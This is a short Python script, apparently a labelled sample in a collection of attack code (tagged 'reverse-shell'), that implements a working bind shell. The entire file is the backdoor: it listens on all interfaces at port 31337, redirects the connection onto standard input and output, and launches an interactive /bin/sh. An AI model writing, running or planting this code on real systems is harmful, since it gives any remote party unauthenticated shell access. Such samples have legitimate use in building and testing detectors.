# family: reverse-shell
# a bind shell: listens on all interfaces and hands connections a shell
import os
import socket

srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, _ = srv.accept()
for fd in range(3):
    os.dup2(conn.fileno(), fd)
os.execl("/bin/sh", "sh", "-i")
